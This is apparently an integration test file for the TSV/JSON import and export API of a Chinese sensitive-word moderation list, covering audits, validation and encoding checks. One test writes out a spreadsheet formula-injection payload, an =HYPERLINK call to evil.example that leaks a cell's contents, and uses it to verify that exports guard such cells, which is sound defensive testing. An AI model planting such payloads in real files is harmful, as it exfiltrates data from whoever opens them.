import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import { AllowWord, Term } from '../../server/models';
import { wordlistPath } from '../../workers/lib/projectRoot';
import { gbkBytes } from '../support/gbk';
import { allEntries, distinctNumber, importTsv, tracedCall, versionOf, wordListAdminSuite } from './termSupport';

const tag = () => randomBytes(3).toString('hex');

/** Entries without what the database adds (ids, times, origin), for comparing contents. */
const contents = (items: any[]) => items.map(({ id: _i, ruleId: _r, createdAt: _c, updatedAt: _u, origin: _o, ...entry }) => entry);

/** The data lines of a TSV export (comments left out), split into cells. */
const dataLines = (tsv: string) =>
  tsv
    .split('\n')
    .filter((line) => line && !line.startsWith('#'))
    .map((line) => line.split('\t'));

describe('word-list import and export', function () {
  this.timeout(180_000);
  const lists = wordListAdminSuite();

  it('exports the whole term list as TSV in the shipped format, audited, and imports the export back unchanged', async () => {
    const before = await allEntries(lists.admin, 'terms');
    const version = await versionOf('terms');
    const exported = await tracedCall(lists.admin, 'GET', '/api/terms/export');
    assert.equal(exported.status, 200);
    assert.match(exported.headers.get('content-type') ?? '', /^text\/tab-separated-values/);
    assert.match(exported.headers.get('content-disposition') ?? '', new RegExp(`terms-v${version}\\.tsv`));
    assert.deepEqual(
      exported.audit.map((r) => [r.eventType, r.objectId, r.detail.format, r.detail.entries, r.detail.version]),
      [['term.export', 'terms', 'tsv', before.length, version]],
    );
    const [header, ...rows] = dataLines(exported.body as string);
    const shippedHeader = fs.readFileSync(wordlistPath('terms/porn.tsv'), 'utf8').split('\n').find((line) => line && !line.startsWith('#'))!;
    assert.deepEqual(header, [...shippedHeader.trim().split('\t'), 'enabled'], "the shipped files' columns, then enabled");
    assert.equal(rows.length, before.length);
    assert.ok(before.length > 10_000, 'the seeded lists');

    const reimported = await importTsv(lists.admin, 'terms', exported.body as string, 'replace');
    assert.equal(reimported.status, 200, JSON.stringify(reimported.body).slice(0, 500));
    assert.deepEqual(
      [reimported.body.created, reimported.body.updated, reimported.body.deleted, reimported.body.unchanged, reimported.body.version],
      [0, 0, 0, before.length, version],
      'nothing changed: no new version',
    );
    assert.deepEqual(reimported.audit, []);
    assert.deepEqual(contents(await allEntries(lists.admin, 'terms')), contents(before));
  });

  it('exports a filtered part as JSON that imports back as it is, for both lists', async () => {
    const porn = await tracedCall(lists.admin, 'GET', '/api/terms/export?format=json&category=porn&enabled=true');
    assert.equal(porn.status, 200);
    assert.match(porn.headers.get('content-disposition') ?? '', /terms-v\d+-filtered\.json/);
    const listed = await allEntries(lists.admin, 'terms', 'category=porn&enabled=true');
    assert.equal(porn.body.entries.length, listed.length);
    assert.ok(porn.body.entries.every((entry: any) => entry.category === 'porn' && entry.enabled === true));
    assert.deepEqual(Object.keys(porn.body.entries[0]).sort(), ['category', 'enabled', 'note', 'severity', 'term']);
    assert.deepEqual(porn.audit[0]!.detail.filter, { category: 'porn', enabled: true });
    const back = await lists.admin.post('/api/terms/import', porn.body);
    assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
    assert.deepEqual([back.body.unchanged, back.body.created + back.body.updated + back.body.deleted], [listed.length, 0]);

    const allow = await lists.admin.get('/api/allow-words/export?format=json');
    assert.deepEqual(Object.keys(allow.body.entries[0]).sort(), ['enabled', 'note', 'word']);
    const allowBack = await lists.admin.post('/api/allow-words/import', { ...allow.body, mode: 'replace' });
    assert.equal(allowBack.status, 200, JSON.stringify(allowBack.body).slice(0, 500));
    assert.equal(allowBack.body.unchanged, allow.body.entries.length);
    const wrongList = await lists.admin.post('/api/allow-words/import', porn.body);
    assert.equal(wrongList.status, 400);
    assert.match(wrongList.body.error.message, /词表 terms 的导出文件，不能导入到 allow-words/);

    const allowTsv = await lists.admin.get('/api/allow-words/export?q=路口');
    assert.deepEqual(dataLines(allowTsv.body as string)[0], ['word', 'note', 'enabled']);
  });

  it('imports a shipped list file as it is (it is what the table was seeded with)', async () => {
    const shipped = fs.readFileSync(wordlistPath('terms/porn.tsv'), 'utf8');
    const answer = await importTsv(lists.admin, 'terms', shipped);
    assert.equal(answer.status, 200, JSON.stringify(answer.body).slice(0, 500));
    assert.deepEqual([answer.body.created, answer.body.updated, answer.body.deleted], [0, 0, 0]);
    assert.ok(answer.body.unchanged > 10);
    const allow = await importTsv(lists.admin, 'allow-words', fs.readFileSync(wordlistPath('allow-words.tsv'), 'utf8'));
    assert.deepEqual([allow.status, allow.body.created, allow.body.updated], [200, 0, 0]);
  });

  it('merges: adds new terms, updates the ones it names, keeps what a column leaves out; audits every change and the import', async () => {
    const t = tag();
    const kept = await lists.admin.post('/api/terms', { term: `合并旧词甲${t}`, category: 'fraud', severity: 'review', note: '原备注' });
    const disabled = await lists.admin.post('/api/terms', { term: `合并旧词乙${t}`, category: 'fraud', severity: 'review', enabled: false });
    const version = await versionOf('terms');
    const tsv = ['term\tcategory\tseverity', `合并旧词甲${t}\tfraud\tblock`, `合并旧词乙${t}\tfraud\tblock`, `合并新词${t}\tgambling\treview`].join('\n');
    const answer = await importTsv(lists.admin, 'terms', tsv);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.deepEqual(answer.body, { list: 'terms', mode: 'merge', format: 'tsv', rows: 3, created: 1, updated: 2, deleted: 0, unchanged: 0, version: version + 1, warnings: [], warningCount: 0 });

    const [first, second, created] = await Promise.all([
      lists.admin.get(`/api/terms/${kept.body.id}`),
      lists.admin.get(`/api/terms/${disabled.body.id}`),
      lists.admin.get(`/api/terms?q=${encodeURIComponent(`合并新词${t}`)}`),
    ]);
    assert.deepEqual([first.body.severity, first.body.note, first.body.enabled], ['block', '原备注', true], 'no note column: the note stays');
    assert.deepEqual([second.body.severity, second.body.enabled], ['block', false], 'no enabled column: a disabled term stays disabled');
    assert.deepEqual([created.body.items[0].origin, created.body.items[0].enabled, created.body.items[0].note], ['import', true, null]);

    assert.deepEqual(answer.audit.map((r) => r.eventType), ['term.import.entries', 'term.import'], 'the changes, then the summary, last');
    const entries = answer.audit[0]!.detail;
    assert.deepEqual([entries.kind, entries.version, entries.part, entries.parts], ['terms', version + 1, 1, 1]);
    assert.deepEqual(entries.updated, [
      { id: kept.body.id, term: `合并旧词甲${t}`, before: { severity: 'review' }, after: { severity: 'block' } },
      { id: disabled.body.id, term: `合并旧词乙${t}`, before: { severity: 'review' }, after: { severity: 'block' } },
    ]);
    assert.deepEqual(entries.created, [{ id: created.body.items[0].id, term: `合并新词${t}`, category: 'gambling', severity: 'review', note: null, enabled: true }]);
    assert.deepEqual(answer.audit[1]!.detail, { kind: 'terms', version: version + 1, format: 'tsv', mode: 'merge', rows: 3, created: 1, updated: 2, deleted: 0, unchanged: 0, parts: 1 });

    const states = await importTsv(lists.admin, 'terms', `term\tcategory\tseverity\tnote\tenabled\n合并旧词乙${t}\tfraud\tblock\t\tyes\n`);
    assert.deepEqual([states.body.updated, (await lists.admin.get(`/api/terms/${disabled.body.id}`)).body.enabled], [1, true], 'an enabled column sets the state');
  });

  it('guards cells a spreadsheet would run as a formula, and strips exactly that guard on import', async () => {
    const t = tag();
    const risky = [`=HYPERLINK("http://evil.example/?leak="&A2,"点此核验")${t}`, `+86公式${t}`, `-减号${t}`, `@提及${t}`];
    const quoted = [`'单引号开头${t}`, `'=引号加等号${t}`, `''+两个引号${t}`];
    for (const term of [...risky, ...quoted]) {
      const created = await lists.admin.post('/api/terms', { term, category: 'politics', severity: 'notice', note: `=1+1 ${t}` });
      assert.equal(created.status, 201, JSON.stringify(created.body));
    }
    const exported = await lists.admin.get(`/api/terms/export?format=tsv&q=${t}`);
    assert.equal(exported.status, 200);
    const cells = new Map(dataLines(exported.body as string).slice(1).map((cells) => [cells[0]!, cells]));
    assert.equal(cells.size, risky.length + quoted.length);
    for (const term of risky) assert.ok(cells.has(`'${term}`), `guarded: ${[...cells.keys()].join(' | ')}`);
    assert.ok(cells.has(quoted[0]!), 'a leading quote before ordinary text needs no guard');
    assert.ok(cells.has(`'${quoted[1]}`) && cells.has(`'${quoted[2]}`), 'quotes before a formula character get one more');
    for (const row of cells.values()) assert.equal(row[3], `'=1+1 ${t}`, 'every column is guarded');
    for (const cell of [...cells.values()].flat()) assert.doesNotMatch(cell, /^[=+\-@]/);

    const reimported = await importTsv(lists.admin, 'terms', exported.body as string);
    assert.equal(reimported.status, 200, JSON.stringify(reimported.body));
    assert.deepEqual([reimported.body.created, reimported.body.updated, reimported.body.unchanged], [0, 0, risky.length + quoted.length], 'the export imports back unchanged');
    const stored = await allEntries(lists.admin, 'terms', `q=${t}`);
    assert.deepEqual(stored.map((e) => e.term).sort(), [...risky, ...quoted].sort());
    assert.ok(stored.every((e) => e.note === `=1+1 ${t}`));
  });

  it('is all or nothing: one bad row refuses the whole file, every problem named with its line', async () => {
    const t = tag();
    const total = await Term.count();
    const version = await versionOf('terms');
    const tsv = [
      '# 测试导入',
      'term\tcategory\tseverity\tnote',
      `全有全无甲${t}\tporn\tblock`,
      `全有全无乙${t}\tPorn\tblock`,
      `全有全无丙${t}\tporn\tsevere`,
      `全有全无甲${t}\tporn\treview`,
      '赌\tgambling\tblock',
      '★★\tgambling\tblock',
      `全有全无丁${t}\tporn\tblock\t备注\t多余`,
      `全有全无戊${t}\tporn\tblock\t\tmaybe`,
    ].join('\n');
    const answer = await importTsv(lists.admin, 'terms', tsv.replace('\t\tmaybe', '\t'));
    assert.equal(answer.status, 400, JSON.stringify(answer.body));
    const message = answer.body.error.message as string;
    assert.match(message, /^导入未执行，没有写入任何词条/);
    // The one-character and the empty term are named with the file's other problems, not after they are mended.
    for (const part of [
      '第 4 行 类别（category）',
      '第 5 行 级别（severity）',
      '第 6 行 词语（term）：与第 3 行重复',
      '第 7 行 词语（term）：“赌”归一化后只剩一个字',
      '第 8 行 词语（term）：“★★”归一化后为空',
      '第 9 行：有 5 列，表头只有 4 列',
    ]) {
      assert.ok(message.includes(part), `${part} in ${message}`);
    }
    assert.match(message, /共 6 处问题/);
    assert.deepEqual(
      answer.body.error.details.map((d: any) => [d.row, d.field]),
      [[4, 'category'], [5, 'severity'], [6, 'term'], [7, 'term'], [8, 'term'], [9, '']],
    );
    assert.equal(await Term.count(), total, 'nothing written');
    assert.equal(await versionOf('terms'), version);
    assert.deepEqual(answer.audit, []);

    // The file is well-formed but would add terms the matcher cannot use: refused the same way.
    const short = await importTsv(lists.admin, 'terms', ['term\tcategory\tseverity', `全有全无甲${t}\tporn\tblock`, '赌\tgambling\tblock', '★★\tgambling\tblock'].join('\n'));
    assert.equal(short.status, 400);
    assert.match(short.body.error.message, /第 3 行 词语（term）：“赌”归一化后只剩一个字/);
    assert.match(short.body.error.message, /第 4 行 词语（term）：“★★”归一化后为空/);
    assert.equal(await Term.count({ where: { term: `全有全无甲${t}` } }), 0, 'not even the good row');
    assert.equal(await versionOf('terms'), version, 'and no new version');

    const enabledValue = await lists.admin.post('/api/terms/import', { entries: [{ term: `全有全无己${t}`, category: 'porn', severity: 'block', enabled: 'maybe' }, { term: 7 }] });
    assert.equal(enabledValue.status, 400);
    assert.match(enabledValue.body.error.message, /第 1 条 启用（enabled）：须为 yes 或 no/);
    assert.match(enabledValue.body.error.message, /第 2 条 词语（term）：须为文本/);
    const header = await importTsv(lists.admin, 'terms', 'word\tseverity\ncolour\tblock\n');
    assert.equal(header.status, 400);
    assert.match(header.body.error.message, /第 1 行（表头）不认识的列 word；缺少列 term、category/);
  });

  it('replaces: deletes every entry the upload does not name, and keeps each one in the audit trail', async () => {
    const exported = await lists.admin.get('/api/allow-words/export?format=json');
    const kept = exported.body.entries.slice(0, 3);
    const answer = await tracedCall(lists.admin, 'POST', '/api/allow-words/import', { mode: 'replace', entries: kept });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.deepEqual([answer.body.deleted, answer.body.unchanged], [exported.body.entries.length - 3, 3]);
    assert.equal(await AllowWord.count(), 3);
    const deleted = answer.audit.filter((r) => r.eventType === 'allow_word.import.entries').flatMap((r) => r.detail.deleted);
    assert.deepEqual(
      deleted.map((d: any) => d.word).sort(),
      exported.body.entries.slice(3).map((e: any) => e.word).sort(),
      'every deleted allow-word is on record',
    );
    const again = await tracedCall(lists.admin, 'POST', '/api/allow-words/import', { mode: 'merge', entries: exported.body.entries });
    assert.equal(again.body.created, exported.body.entries.length - 3);
  });

  it('spreads the changes of a large import over a few audit records, each within the log column', async () => {
    const t = tag();
    const rows = Array.from({ length: 5000 }, (_, i) => `大批导入${t}词${distinctNumber(i)}\tfraud\treview\t第 ${i} 条：批量导入测试`);
    const answer = await importTsv(lists.admin, 'terms', ['term\tcategory\tseverity\tnote', ...rows].join('\n'));
    assert.equal(answer.status, 200, JSON.stringify(answer.body).slice(0, 500));
    assert.equal(answer.body.created, 5000);
    const parts = answer.audit.filter((r) => r.eventType === 'term.import.entries');
    assert.ok(parts.length > 1 && parts.length < 50, `${parts.length} records`);
    assert.deepEqual(parts.map((r) => r.detail.part), parts.map((_r, i) => i + 1));
    const created = parts.flatMap((r) => r.detail.created);
    assert.equal(created.length, 5000);
    assert.equal(new Set(created.map((c: any) => c.id)).size, 5000, 'every created term with its id');
    const stored = await Term.findOne({ where: { term: `大批导入${t}词${distinctNumber(4999)}` } });
    assert.equal(created.find((c: any) => c.term === `大批导入${t}词${distinctNumber(4999)}`).id, stored!.id);
    assert.equal(answer.audit.at(-1)!.eventType, 'term.import');

    const removed = await lists.admin.post('/api/terms/import', { entries: [] , mode: 'merge' });
    assert.equal(removed.body.created + removed.body.deleted, 0, 'an empty merge changes nothing');
  });

  it('refuses a file that is not UTF-8 (a GBK file from Excel or Notepad) instead of importing garbled words', async () => {
    const file = gbkBytes('term\tcategory\tseverity\tnote\nQQ测试词\tvulgar\treview\t国标备注\n');
    const total = await Term.count();
    const version = await versionOf('terms');
    const refused = await tracedCall(lists.admin, 'POST', '/api/terms/import?mode=merge', file, { 'content-type': 'text/tab-separated-values' });
    assert.equal(refused.status, 400, JSON.stringify(refused.body));
    assert.match(refused.body.error.message, /^导入未执行：文件不是 UTF-8 编码（第 2 行有无法识别的字符）。.*UTF-8/);
    assert.deepEqual(refused.body.error.details.map((d: any) => d.row), [2]);
    assert.deepEqual(refused.audit, []);
    assert.equal(await Term.count(), total, 'nothing written');
    assert.equal(await versionOf('terms'), version);

    const allowWords = await AllowWord.count();
    const allowFile = gbkBytes('# exported\nword\tnote\n测试词\n');
    const refusedAllow = await tracedCall(lists.admin, 'POST', '/api/allow-words/import?mode=merge', allowFile, { 'content-type': 'text/tab-separated-values' });
    assert.equal(refusedAllow.status, 400);
    assert.match(refusedAllow.body.error.message, /第 3 行有无法识别的字符/);
    const json = gbkBytes(`{"mode":"merge","entries":[{"word":"ok${tag()}"},{"word":"测试词"}]}`);
    const refusedJson = await lists.admin.post('/api/allow-words/import', json);
    assert.equal(refusedJson.status, 400);
    assert.match(refusedJson.body.error.message, /文件不是 UTF-8 编码（第 2 条有无法识别的字符）/);
    assert.equal(await AllowWord.count(), allowWords);
  });

  it('imports common words with warnings', async () => {
    const t = tag();
    const tsv = ['term\tcategory\tseverity', '工作\tpolitical\treview', `警告测试${t}\tporn\tblock`].join('\n');
    const answer = await importTsv(lists.admin, 'terms', tsv);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.equal(answer.body.created, 2);
    assert.deepEqual(answer.body.warnings.map((w: any) => [w.row, w.code]), [[2, 'common_word']]);
    assert.equal(answer.body.warningCount, 1);
  });

  it('refuses a spelling that reads the same as a stored term or another line once normalised, as the add form does, naming which', async () => {
    const t = tag();
    const total = await Term.count();
    const version = await versionOf('terms');
    const stored = await lists.admin.post('/api/terms', { term: `法轮功${t}`, category: 'cult', severity: 'block' });
    assert.equal(stored.status, 201, JSON.stringify(stored.body));
    const form = await lists.admin.post('/api/terms', { term: `法 輪 功${t}`, category: 'cult', severity: 'block' });
    assert.equal(form.status, 409, 'the add form refuses it');
    const tsv = ['term\tcategory\tseverity', `新词甲${t}\tporn\tblock`, `法 輪 功${t}\tcult\tblock`, `警告测试${t}\tporn\tblock`, `警 告 測 試${t}\tporn\tblock`].join('\n');
    const answer = await importTsv(lists.admin, 'terms', tsv);
    assert.equal(answer.status, 400, JSON.stringify(answer.body));
    const message = answer.body.error.message as string;
    assert.ok(message.includes(`第 3 行 词语（term）：“法 輪 功${t}”与敏感词表中已有的“法轮功${t}”（编号 ${stored.body.id}）归一化后相同`), message);
    assert.ok(message.includes(`第 5 行 词语（term）：“警 告 測 試${t}”与第 4 行的“警告测试${t}”归一化后相同`), message);
    assert.deepEqual(answer.body.error.details.map((d: any) => d.row), [3, 5]);
    assert.equal(await Term.count(), total + 1, 'nothing imported');
    assert.equal(await versionOf('terms'), version + 1, 'only the form’s entry changed the version');

    const json = await lists.admin.post('/api/terms/import', { entries: [{ term: `法輪功${t}`, category: 'cult', severity: 'block' }] });
    assert.equal(json.status, 400);
    assert.match(json.body.error.message, /第 1 条 词语（term）：.*已有的“法轮功/);
  });
});
